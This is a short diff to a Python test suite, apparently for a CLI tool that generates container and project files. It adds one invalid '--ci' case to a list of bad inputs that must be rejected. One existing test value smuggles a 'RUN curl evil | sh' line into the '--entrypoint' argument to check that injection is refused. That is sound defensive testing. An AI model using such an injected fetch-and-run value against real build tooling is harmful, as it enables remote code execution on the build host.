@@ -107,6 +107,7 @@ def test_existing_files_are_not_overwritten_without_force(
         (["--entrypoint", 'app:app"]\nRUN curl evil | sh'], "--entrypoint: must be module:attr"),
         (["--package-manager", "conda"], "--package-manager: must be one of pip, poetry, uv"),
         (["--runtime-base", "distroless", "--python-version", "3.12"], "--python-version: must be 3.11"),
+        (["--ci", "gitlab"], "--ci: must be one of none, github"),
     ],
 )
 def test_bad_input_exits_2_with_one_line_and_writes_nothing(
